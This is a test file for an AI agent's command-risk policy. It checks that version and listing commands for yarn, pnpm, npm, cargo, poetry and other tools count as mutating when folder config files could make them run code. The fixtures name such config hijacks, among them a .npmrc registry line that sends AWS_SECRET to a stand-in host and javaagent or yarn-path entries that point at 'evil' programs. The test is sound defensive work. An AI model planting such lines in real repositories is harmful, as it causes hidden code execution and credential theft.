import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { createPathFacts } from '../../src/cli/session/policy/open-policy.js';
import { createPolicy } from '../../src/policy/assess.js';
import { toolCall } from './calls.js';
import { defaultDeny } from './judging.js';

let root = '';
let workspace = '';
let home = '';

beforeEach(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'plain-tools-')));
  workspace = join(root, 'home', 'work');
  home = join(root, 'home');
  mkdirSync(join(workspace, 'sub'), { recursive: true });
});

afterEach(() => rmSync(root, { recursive: true, force: true }));

function write(folder: string, file: string, text: string): void {
  mkdirSync(dirname(join(folder, file)), { recursive: true });
  writeFileSync(join(folder, file), text);
}

async function riskOf(command: string, args: Readonly<Record<string, unknown>> = {}): Promise<string> {
  const facts = createPathFacts({ home, workspace, ownPaths: [] });
  const policy = createPolicy({ approval: 'mutating', sandbox: 'off', facts, fsDeny: defaultDeny });
  return (await policy.assess(toolCall('bash', 'execute', { command, ...args }), workspace)).risk;
}

/** Questions, a file that makes each of them run a program of the folder, and one of that name that does not (null:
 * there is none). */
const rows: readonly (readonly [commands: readonly string[], file: string, steering: string, plain: string | null])[] =
  [
    [
      ['yarn --version', 'yarn -v', 'yarn list', 'yarn why x', 'yarn info x', 'yarn config get x', 'yarn outdated'],
      '.yarnrc',
      'yarn-path "./evil.js"\n',
      'save-prefix "~"\n',
    ],
    [
      ['yarn --version', 'yarn why x', 'yarn workspaces list'],
      '.yarnrc.yml',
      'yarnPath: ./evil.cjs\n',
      'nodeLinker: node-modules\n',
    ],
    [['yarn info x'], '.yarnrc.yml', 'plugins:\n  - ./evil.cjs\n', '# nothing\n'],
    [
      ['yarn --version', 'pnpm --version'],
      'package.json',
      '{"packageManager": "yarn@https://x.example/evil.js"}',
      '{"packageManager": "yarn@4.5.0"}',
    ],
    [['pnpm -v'], 'package.json', '{"packag\\u0065Manager": "pnpm@file:evil.tgz"}', '{"name": "x"}'],
    [
      ['pnpm -v'],
      'package.json',
      '{"devEngines": {"packageManager": {"name": "pnpm", "version": "https://x.example/evil"}}}',
      '{"devEngines": {"packageManager": {"name": "pnpm", "version": "^10"}}}',
    ],
    [['yarn --version', 'pnpm list'], '.corepack.env', 'COREPACK_NPM_REGISTRY=http://x.example\n', null],
    [
      ['pnpm --version', 'pnpm list', 'pnpm ls', 'pnpm why x', 'pnpm outdated', 'pnpm view x'],
      '.pnpmfile.cjs',
      'evil()',
      null,
    ],
    [
      ['pnpm list', 'pnpm --version'],
      'pnpm-workspace.yaml',
      'packages: [a]\npnpmfile: ./evil.cjs\n',
      'packages:\n  - packages/*\ncatalog:\n  x: 1\n',
    ],
    [['pnpm list'], 'pnpm-workspace.yaml', '{packages: [a], pnpmfile: ./evil.cjs}\n', '# none\npackages:\n- a\n'],
    [['pnpm list'], 'pnpm-workspace.yaml', '  packages: [a]\n  pnpmfile: ./evil.cjs\n', null],
    [
      [
        'npm view x',
        'npm --version',
        'npm ls',
        'npm outdated',
        'npm config get registry',
        'npx --version',
        'pnpm view x',
        'npm run',
      ],
      '.npmrc',
      'registry=http://x.example/${AWS_SECRET}\n',
      'save-exact=true\nregistry=https://registry.npmjs.org/\n',
    ],
    [['npm audit', 'npm search x'], '.npmrc', 'git=./evil\n', '; none\n'],
    [['bun --version', 'bun outdated'], 'bunfig.toml', 'preload = ["./evil.ts"]', null],
    [['mvn --version'], '.mvn/jvm.config', '-javaagent:evil.jar', null],
    [['mvn --version'], '.mvn/extensions.xml', '<extensions/>', null],
    [['gradle --version', 'gradle -v'], 'gradle.properties', 'org.gradle.java.home=./evil', 'version=1.0\n'],
    [['sbt --version'], '.jvmopts', '-javaagent:evil.jar', null],
    [['sbt --version'], 'project/build.properties', 'sbt.version=1.9', null],
    [['vagrant status', 'vagrant --version', 'vagrant version'], 'Vagrantfile', 'system("evil")', null],
    [
      [
        'rustc --version',
        'cargo --version',
        'cargo tree',
        'rustup show',
        'rustc -vV',
        'cargo metadata',
        'rust-analyzer --version',
      ],
      'rust-toolchain.toml',
      '[toolchain]\npath = "./evil"',
      '[toolchain]\nchannel = "1.80"\n',
    ],
    [
      ['cargo --version'],
      'rust-toolchain.toml',
      'toolchain = { path = "./evil" }',
      'toolchain = { channel = "stable" }\n',
    ],
    [['rustc --version'], 'rust-toolchain', './evil\n', 'stable\n'],
    [['cargo tree'], '.cargo/config.toml', 'build = { rustc-wrapper = "./evil" }', '[term]\nverbose = true\n'],
    [
      ['cargo tree'],
      '.cargo/config.toml',
      '[registry]\nglobal-credential-providers = ["./evil"]',
      '[net]\nretry = 2\n',
    ],
    [['cargo tree'], '.cargo/config.toml', 'alias.tree = "run"', '[build]\njobs = 2\n'],
    [['rails --version'], 'bin/rails', '#!/usr/bin/env ruby', null],
    [
      ['bundle --version', 'bundle -v', 'jekyll --version', 'rspec --version', 'fastlane --version', 'pod --version'],
      'Gemfile',
      'system("evil")',
      null,
    ],
    [['bundle --version'], '.bundle/config', 'BUNDLE_PATH: "evil"', null],
    [
      ['poetry --version', 'poetry show', 'poetry check', 'poetry env info'],
      'pyproject.toml',
      '[tool.poetry.requires-plugins]\nevil = "*"',
      '[project]\nname = "x"\n',
    ],
    [['poetry show', 'uv pip list', 'uv pip show x'], '.venv/pyvenv.cfg', 'home = /usr/bin', null],
    [['uv pip list'], '.python-version', './evil/python\n', '3.12\n'],
    [['poetry --version'], 'poetry.toml', '[virtualenvs]', null],
    [['tox --version'], 'toxfile.py', 'evil()', null],
    [
      ['flake8 --version'],
      '.flake8',
      '[flake8:local-plugins]\nextension =\n  X = evil:X\n',
      '[flake8]\nmax-line-length = 100\n',
    ],
    [['flake8 --version'], 'tox.ini', '[flake8:local-plugins]\npaths = .\n', '[tox]\n'],
    [
      ['pylint --version'],
      'pyproject.toml',
      '[tool.pylint.main]\ninit-hook = "evil()"\n',
      '[tool.pylint.main]\njobs = 2\n',
    ],
    [['ansible --version'], 'ansible.cfg', '[defaults]\n', null],
    [['bazel --version'], 'tools/bazel', '#!/bin/sh', null],
    [['bazel --version'], '.bazelversion', 'evil/1.0', null],
    [
      ['dotnet --version', 'dotnet --info', 'dotnet --list-sdks'],
      'global.json',
      '{"sdk": {"paths": [".evil"]}}',
      '{"sdk": {"version": "8.0.100"}}',
    ],
    [['composer --version'], 'composer.json', '{}', null],
    [['nx --version'], 'nx.json', '{}', null],
    [['turbo --version'], 'turbo.json', '{}', null],
    [['sls info', 'serverless --version'], 'serverless.yml', 'custom: ${file(./evil.js)}', null],
    [['hg --version'], '.hg/hgrc', '[extensions]\nx = ./evil.py', null],
    [['ack x'], '.ackrc', '--pager=./evil', null],
    [['elixir --version'], '.erlang', 'os:cmd("evil").', null],
    [
      ['node --version', 'python3 --version', 'go version', 'terraform version', 'ruby -v', 'jq --version'],
      '.tool-versions',
      'nodejs path:./evil\n',
      'nodejs 22.1.0\n',
    ],
    [['node --version'], 'mise.toml', '[tools]\nnode = "path:./evil"\n', '[tools]\nnode = "22"\n'],
  ];

describe.each(rows)('%j obey %s', (commands, file, steering, plain) => {
  test('and only read where it names nothing to run, here and above', async () => {
    for (const command of commands) expect(await riskOf(command), command).toBe('read-only');
    for (const folder of [workspace, root]) {
      write(folder, file, steering);
      for (const command of commands) {
        expect(await riskOf(command), command).toBe('mutating');
        expect(await riskOf(command, { workdir: 'sub' }), command).toBe('mutating');
        expect(await riskOf(`cd sub && ${command}`), command).toBe('mutating');
      }
      if (plain !== null) write(folder, file, plain);
      for (const command of plain === null ? [] : commands)
        expect(await riskOf(command), `${command} beside a plain file`).toBe('read-only');
      rmSync(join(folder, file));
    }
  });
});

test('a question in a folder is judged by the files there, and one in an unknown folder is not read-only', async () => {
  write(workspace, 'vendor/.pnpmfile.cjs', 'evil()');
  expect(await riskOf('pnpm list')).toBe('read-only');
  expect(await riskOf('cd vendor && pnpm list')).toBe('mutating');
  expect(await riskOf('ls; (cd vendor; yarn --version); pnpm why x')).toBe('mutating');
  expect(await riskOf('cd $(git rev-parse --show-toplevel) && npm ls')).toBe('mutating');
});

test('a file behind a link counts, one that is too long or a folder counts as steering', async () => {
  write(workspace, 'config/rc', 'yarn-path "./evil.js"\n');
  symlinkSync('config/rc', join(workspace, '.yarnrc'));
  expect(await riskOf('yarn why x')).toBe('mutating');
  rmSync(join(workspace, '.yarnrc'));
  write(workspace, '.npmrc', `# ${'x'.repeat(70_000)}\n`);
  expect(await riskOf('npm ls')).toBe('mutating');
  rmSync(join(workspace, '.npmrc'));
  symlinkSync('.npmrc', join(workspace, '.npmrc'));
  expect(await riskOf('npm ls')).toBe('mutating');
});

test("what lies in the home directory is the user's own", async () => {
  for (const [file, text] of [
    ['.npmrc', '//x/:_authToken=1\n'],
    ['.yarnrc.yml', 'npmRegistryServer: x\n'],
    ['.cargo/config.toml', '[alias]\nx = "run"\n'],
    ['.tool-versions', 'nodejs path:/opt/x\n'],
    ['.ackrc', '--smart-case\n'],
  ] as const)
    write(home, file, text);
  for (const command of ['npm ls', 'yarn --version', 'cargo tree', 'node --version', 'ack x'])
    expect(await riskOf(command), command).toBe('read-only');
});
